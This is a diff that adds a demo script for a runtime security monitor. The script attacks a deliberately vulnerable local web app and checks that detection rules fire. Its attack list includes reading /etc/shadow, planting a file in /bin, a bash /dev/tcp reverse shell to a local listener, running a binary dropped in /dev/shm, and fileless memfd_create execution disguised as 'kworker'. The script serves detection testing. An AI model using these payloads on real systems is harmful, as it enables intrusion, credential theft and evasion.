@@ -1,0 +1,265 @@
+#!/usr/bin/env python3
+"""Attacks a small web application that runs under instrument, and shows the alerts as they happen.
+
+usage: script/demo [--json]      --json: only the alerts, one JSON object a line
+
+Must stay true: whatever happens, ^C included, nothing stays behind: no process, no temporary file, no /bin/hello.
+"""
+import argparse
+import contextlib
+import http.client
+import json
+import os
+import pathlib
+import shutil
+import signal
+import socket
+import statistics
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import urllib.parse
+
+ROOT = pathlib.Path(__file__).resolve().parents[1]
+BUILD = ROOT / 'build'
+BUNDLE = BUILD / 'bundle/opt/undercoat'
+PLANTED = pathlib.Path('/bin/hello')
+DROPPED = pathlib.Path('/dev/shm/undercoat-demo-dropped')
+PTRACE_ALL = BUILD / 'bench/ptrace_all'
+COLOURS = {'Emergency': 31, 'Alert': 31, 'Critical': 31, 'Error': 31, 'Warning': 33, 'Notice': 36}
+
+
+class Screen:
+    """Writes for people, in colour on a terminal; with --json only alerts are written."""
+
+    def __init__(self, as_json):
+        self.json = as_json
+        self.colour = sys.stdout.isatty() and not as_json and os.environ.get('NO_COLOR') is None
+
+    def paint(self, code, text):
+        return f'\033[{code}m{text}\033[0m' if self.colour else text
+
+    def say(self, text='', code=None):
+        if not self.json:
+            print(self.paint(code, text) if code else text, flush=True)
+
+    def alert(self, line):
+        if self.json:
+            print(line, flush=True)
+            return
+        a = json.loads(line)
+        priority = a.get('priority', '')
+        print(f'    {self.paint(COLOURS.get(priority, 37), "● " + priority.upper().ljust(9))} {self.paint(1, a["rule"])}')
+        print(self.paint(2, '      ' + shorten(a.get('output', ''))), flush=True)
+
+
+def shorten(text):
+    width = max(60, shutil.get_terminal_size((120, 25)).columns - 8)
+    return text if len(text) <= width else text[:width - 1] + '…'
+
+
+class AlertTail:
+    """Shows the lines of the alerts file as they appear."""
+
+    def __init__(self, path, screen):
+        self.path, self.screen, self.seen, self.at = path, screen, [], 0
+
+    def poll(self):
+        if not self.path.exists():
+            return
+        with open(self.path, 'rb') as f:
+            f.seek(self.at)
+            data = f.read()
+        whole = data[:data.rfind(b'\n') + 1]
+        self.at += len(whole)
+        for line in whole.decode(errors='replace').splitlines():
+            if line.startswith('{'):
+                self.seen.append(json.loads(line)['rule'])
+                self.screen.alert(line)
+
+    def wait(self, since, rules, seconds=5):
+        """Until each of `rules` was seen after index `since`, then a little for what comes with them."""
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline and not set(rules) <= set(self.seen[since:]):
+            self.poll()
+            time.sleep(0.02)
+        quiet = time.monotonic() + 0.3
+        while time.monotonic() < quiet:
+            self.poll()
+            time.sleep(0.02)
+
+
+class Server:
+    """One server process; `prefix` is what it runs under."""
+
+    def __init__(self, stack, prefix, command, errors):
+        env = {**os.environ, 'UNDERCOAT_PRIORITY': 'security'}
+        self.process = subprocess.Popen([str(c) for c in [*prefix, *command, '0']], stdout=subprocess.PIPE, stderr=errors,
+                                        stdin=subprocess.DEVNULL, env=env, start_new_session=True)
+        stack.callback(self.stop)
+        line = self.process.stdout.readline()
+        if not line.strip().isdigit():
+            raise SystemExit(f'demo: the server did not start under: {" ".join(map(str, prefix)) or "nothing"}')
+        self.port = int(line)
+        self.connection = None
+
+    def request(self, method, path, **form):
+        for attempt in (1, 2):
+            if self.connection is None:
+                self.connection = http.client.HTTPConnection('127.0.0.1', self.port, timeout=15)
+            try:
+                self.connection.request(method, path, urllib.parse.urlencode(form) or None,
+                                        {'Content-Type': 'application/x-www-form-urlencoded'} if form else {})
+                r = self.connection.getresponse()
+                return r.status, r.read()
+            except (http.client.HTTPException, ConnectionError):
+                self.connection.close()
+                self.connection = None
+                if attempt == 2:
+                    raise
+
+    def stop(self):
+        if self.connection:
+            self.connection.close()
+        with contextlib.suppress(ProcessLookupError):
+            self.process.terminate()
+            with contextlib.suppress(subprocess.TimeoutExpired):
+                self.process.wait(5)
+            os.killpg(self.process.pid, signal.SIGKILL)
+        self.process.wait()
+
+
+class Catcher:
+    """The attacker's end of a reverse shell: sends one command, keeps the answer."""
+
+    def __init__(self, stack):
+        self.socket = socket.create_server(('127.0.0.1', 0))
+        stack.callback(self.socket.close)
+        self.port, self.answer = self.socket.getsockname()[1], b''
+        threading.Thread(target=self.serve, daemon=True).start()
+
+    def serve(self):
+        with contextlib.suppress(OSError):
+            peer, _ = self.socket.accept()
+            with peer:
+                peer.settimeout(5)
+                peer.sendall(b'id; exit\n')
+                while data := peer.recv(4096):
+                    self.answer += data
+
+
+def attacks(catcher):
+    """What is sent: title, method, path, form, and the rules that must speak."""
+    shell = f"bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{catcher.port} 0>&1'"
+    memfd = ("python3 -c \"import os; f=os.memfd_create('kworker'); os.write(f, open('/bin/true','rb').read()); "
+             "os.execve(f, ['kworker'], {})\"")
+    return [
+        ('read the password hashes', 'GET', '/etc/shadow', {}, ['Read sensitive file untrusted']),
+        ('plant a program', 'POST', str(PLANTED), {'content': '#!/bin/sh\necho hello\n'}, ['Write below binary dir']),
+        ('open a reverse shell', 'POST', '/exec', {'command': shell},
+         ['Redirect STDOUT/STDIN to Network Connection in Container']),
+        ('drop a program and run it', 'POST', '/exec', {'command': f'cp /bin/true {DROPPED} && {DROPPED}'},
+         ['Execution from /dev/shm']),
+        ('run a program that is no file', 'POST', '/exec', {'command': memfd}, ['Fileless execution via memfd_create']),
+    ]
+
+
+def attack(screen, server, tail, catcher):
+    """Returns the rules that should have spoken and did not."""
+    silent = []
+    for title, method, path, form, rules in attacks(catcher):
+        since = len(tail.seen)
+        words = ' '.join(f'{k}={v!r}' for k, v in form.items())
+        screen.say(f'\n  ▶ {title}', 1)
+        screen.say('    ' + shorten(f'{method} {path} {words}'), 2)
+        server.request(method, path, **form)
+        tail.wait(since, rules)
+        missing = [r for r in rules if r not in tail.seen[since:]]
+        for r in missing:
+            screen.say(f'    ! no alert: {r}', 31)
+        silent += missing
+        for planted in (PLANTED, DROPPED):
+            planted.unlink(missing_ok=True)
+    return silent
+
+
+def overhead(screen, servers):
+    """Median time of a request, interleaved over the servers (name -> Server)."""
+    samples = {name: [] for name in servers}
+    for _ in range(9):
+        for name, server in servers.items():
+            start = time.perf_counter()
+            for _ in range(100):
+                server.request('GET', '/etc/hostname')
+            samples[name].append((time.perf_counter() - start) * 1e4)
+    native = statistics.median(samples['native'])
+    screen.say('\n  One request that reads a file, median of 9 interleaved rounds of 100:')
+    for name, values in samples.items():
+        us = statistics.median(values)
+        screen.say(f'    {name:20s} {us:8.0f} µs   ×{us / native:.2f}')
+
+
+def rules():
+    official = ROOT.parent / 'shared/rules'
+    names = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml']
+    if all((official / n).exists() for n in names):
+        return "Falco's official rules", [official / n for n in names]
+    return "the bundle's own rules", sorted((BUNDLE / 'rules').glob('*.yaml'))
+
+
+def act(screen, scratch, title, command, files):
+    with contextlib.ExitStack() as stack:
+        stack.callback(PLANTED.unlink, missing_ok=True)
+        stack.callback(DROPPED.unlink, missing_ok=True)
+        alerts = scratch / f'alerts-{pathlib.Path(command[-1]).name}.jsonl'
+        errors = stack.enter_context(open(scratch / 'errors', 'a+'))
+        instrument = [BUNDLE / 'bin/instrument', '--json', '--alerts', alerts, *[x for f in files for x in ('--rules', f)], '--']
+        screen.say(f'\n{title}', '1;4')
+        screen.say(f'  $ instrument -- {" ".join(str(c) for c in command)}')
+        servers = {'native': Server(stack, [], command, errors), 'under instrument': Server(stack, instrument, command, errors)}
+        tail = AlertTail(alerts, screen)
+        silent = attack(screen, servers['under instrument'], tail, Catcher(stack))
+        if not screen.json:
+            servers['under plain ptrace'] = Server(stack, [PTRACE_ALL], command, errors)
+            overhead(screen, servers)
+        return silent
+
+
+def build_static_server(scratch):
+    if not shutil.which('go'):
+        raise SystemExit('demo: go is missing; run script/bootstrap')
+    env = {**os.environ, 'CGO_ENABLED': '0', 'GOFLAGS': '-mod=mod', 'GO111MODULE': 'off', 'GOCACHE': str(scratch / 'go-cache')}
+    r = subprocess.run(['go', 'build', '-o', scratch / 'static_server', '.'], cwd=ROOT / 'demo/static_server', env=env,
+                       capture_output=True, text=True)
+    if r.returncode:
+        raise SystemExit('demo: go build: ' + r.stderr)
+    return scratch / 'static_server'
+
+
+def main():
+    p = argparse.ArgumentParser(prog='script/demo', description='Attack a small web application under instrument.')
+    p.add_argument('--json', action='store_true', help='print the alerts alone, as JSON lines')
+    screen = Screen(p.parse_args().json)
+    if os.getuid() != 0:
+        raise SystemExit('demo: run it as root: the attacked files are those of root')
+    if PLANTED.exists():
+        raise SystemExit(f'demo: {PLANTED} exists already; the demo would overwrite it')
+    for sig in (signal.SIGTERM, signal.SIGHUP):
+        signal.signal(sig, lambda *_: sys.exit(1))
+    with tempfile.TemporaryDirectory(prefix='undercoat-demo-') as name:
+        scratch = pathlib.Path(name)
+        title, files = rules()
+        screen.say(f'Rules: {title} ({", ".join(f.name for f in files)})')
+        silent = act(screen, scratch, 'A Python web application', ['python3', ROOT / 'demo/vulnerable_app.py'], files)
+        static = build_static_server(scratch)
+        silent += act(screen, scratch, 'The same, statically linked (Go): no libc, nothing to preload', [static], files)
+        screen.say()
+    return 1 if silent else 0
+
+
+try:
+    sys.exit(main())
+except KeyboardInterrupt:
+    sys.exit(130)
